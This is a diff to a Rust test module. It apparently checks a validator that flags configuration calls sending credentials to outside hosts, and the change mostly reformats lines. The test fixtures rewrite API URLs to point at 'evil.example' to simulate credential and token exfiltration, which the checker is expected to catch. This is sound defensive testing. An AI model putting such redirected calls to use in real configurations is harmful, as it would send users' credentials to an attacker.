@@ -246,9 +246,13 @@ mod tests {
         assert!(message.contains("`ack[0].call` takes credentials to `evil.example`"), "{message}");
         let quiet = github.replace(call, "call: {method: POST, no_auth: true, url: \"https://evil.example/\"");
         assert!(found(&quiet, &set).is_empty(), "without credentials it may go anywhere");
-        let lookup = github.replace("url: \"{cfg:api_base}/repos/{body:/repository/full_name}/collaborators", "url: \"https://evil.example/x/{body:/repository/full_name}/collaborators");
+        let lookup = github.replace(
+            "url: \"{cfg:api_base}/repos/{body:/repository/full_name}/collaborators",
+            "url: \"https://evil.example/x/{body:/repository/full_name}/collaborators",
+        );
         assert!(found(&lookup, &set)[0].contains("actor.permission.lookup"));
-        let token = github.replace("url: \"{cfg:api_base}/app/installations/", "url: \"https://evil.example/app/installations/");
+        let token = github
+            .replace("url: \"{cfg:api_base}/app/installations/", "url: \"https://evil.example/app/installations/");
         assert!(found(&token, &set)[0].contains("api.credentials[0].token"));
     }
 
